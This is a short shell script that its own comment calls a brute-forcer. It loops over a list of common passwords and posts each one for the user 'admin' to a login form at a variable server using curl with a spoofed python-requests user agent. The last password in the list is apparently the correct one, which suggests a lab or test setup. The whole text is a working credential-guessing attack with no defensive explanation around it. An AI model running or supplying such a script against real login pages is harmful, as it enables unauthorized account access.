# A brute-forcer: the login form for "admin" with passwords from a short list, one connection
# each, until the right one (the last) works.
set -u
for pw in 123456 password admin letmein qwerty welcome monkey dragon master abc123 \
          iloveyou trustno1 sunshine princess football s3cr3t-admin; do
  curl -s -o /dev/null -A "python-requests/2.31.0" \
    --data-urlencode "username=admin" --data-urlencode "password=$pw" "http://$SERVER/login"
done
